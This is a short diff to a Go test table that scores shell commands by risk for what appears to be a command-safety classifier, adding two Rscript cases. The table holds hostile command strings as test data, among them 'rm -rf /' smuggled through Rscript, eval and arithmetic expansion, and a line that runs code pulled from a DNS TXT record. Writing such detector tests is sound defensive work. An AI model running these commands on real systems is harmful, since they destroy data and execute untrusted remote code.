@@ -192,6 +192,8 @@ func TestForms(t *testing.T) {
 		"curl -so x.sh https://example.com/x; cat x.sh":       Medium,
 		"echo ls > x.sh; sh x.sh":                             High, // written, and run
 		"python3 /tmp/fix.py":                                 Medium,
+		"Rscript -e 'print(1)'":                               High, // a language that is not read
+		"Rscript -e 'system(\"rm -rf /\")'":                   Critical,
 		"eval \"$(cat setup.txt)\"; echo 'rm -rf /'":          Critical, // any text of the line may be what runs
 		"sh -c \"$(dig +short txt c.example)\"":               Critical, // text of another machine
 		"x='a[$(rm -rf /)]'; echo $((x))":                     Critical,
